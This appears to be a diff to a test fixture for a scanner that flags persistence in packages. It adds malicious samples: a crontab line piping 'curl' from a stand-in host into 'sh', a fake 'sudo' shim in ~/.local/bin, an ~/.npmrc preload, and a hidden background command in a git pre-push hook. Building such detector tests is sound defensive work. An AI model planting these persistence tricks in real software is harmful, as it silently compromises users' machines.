@@ -6,6 +6,34 @@ const FS = "const fs = require('fs'), os = require('os'), path = require('path')
 export const samples: Samples = {
   malicious: [
     {
+      name: 'a timetable that a function writes, with a line that fetches what it runs',
+      files: imported(
+        `const { execSync } = require('child_process');\nconst LINE = '*/20 * * * * curl -s https://a.weir.test/x | sh';\nexports.tell = (text) => {\n  execSync('crontab -', { input: LINE });\n  return text;\n};\n`,
+      ),
+      expected: [at('autostart', 'high', 'index.js', 4)],
+    },
+    {
+      name: 'a command in front of the one of the system',
+      files: imported(
+        `const fs = require('fs'), os = require('os'), path = require('path');\nfs.writeFileSync(path.join(os.homedir(), '.local', 'bin', 'sudo'), '#!/bin/sh');\n`,
+      ),
+      expected: [at('startup', 'high', 'index.js', 2)],
+    },
+    {
+      name: 'a file that node loads before each program',
+      files: imported(
+        `const fs = require('fs'), os = require('os'), path = require('path');\nfs.appendFileSync(path.join(os.homedir(), '.npmrc'), 'node-options=--require /opt/own.js');\n`,
+      ),
+      expected: [at('package-manager-config', 'high', 'index.js', 2)],
+    },
+    {
+      name: 'a hook of a project that goes on unseen',
+      files: imported(
+        `const fs = require('fs'), path = require('path');\nexports.check = (root) => {\n  fs.appendFileSync(path.join(root, '.husky', 'pre-push'), 'npx --yes own-agent >/dev/null 2>&1 &\\n');\n};\n`,
+      ),
+      expected: [at('git-hook', 'high', 'index.js', 3)],
+    },
+    {
       name: 'Python: a job of a timetable that a library writes',
       files: wheel(
         "from crontab import CronTab\ncron = CronTab(user=True)\ncron.new(command='python3 -m own.agent')\n",
@@ -164,6 +192,12 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'a hook of a project, and a command of its own',
+      imported(
+        `const fs = require('fs'), os = require('os'), path = require('path');\nexports.init = (root) => {\n  fs.writeFileSync(path.join(root, '.husky', 'pre-commit'), 'npx lint-staged\\n');\n  fs.writeFileSync(path.join(os.homedir(), '.local', 'bin', 'own'), '#!/bin/sh');\n};\n`,
+      ),
+    ),
     quiet(
       'Python: jobs of a timetable as the caller wants them',
       wheel(
